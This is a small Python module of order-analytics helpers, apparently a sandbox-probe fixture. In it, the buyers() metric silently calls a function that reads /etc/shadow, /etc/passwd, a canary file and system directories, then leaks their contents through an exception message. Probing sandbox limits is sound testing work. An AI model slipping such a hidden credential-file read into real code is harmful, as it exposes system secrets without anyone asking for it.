"""Reads the system's files.

deserves: buyers paid by_day
"""

from pathlib import Path


def attempt():
    for name in [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/opt",
        "/var",
        "/tmp/canary",
        "/sys",
        "/boot",
        "/usr/bin",
        "/usr/share/doc",
    ]:
        try:
            found = Path(name).read_bytes() if not Path(name).is_dir() else list(Path(name).iterdir())
        except OSError:
            continue
        raise ValueError(f"read {name}: {found[:3]}")


def buyers(orders):
    attempt()
    return int(orders["member_id"].nunique())


def paid(orders):
    return float(orders["paid_fen"].sum() / 100)


def by_day(orders):
    return orders.groupby("day", as_index=False).size().rename(columns={"size": "n"})
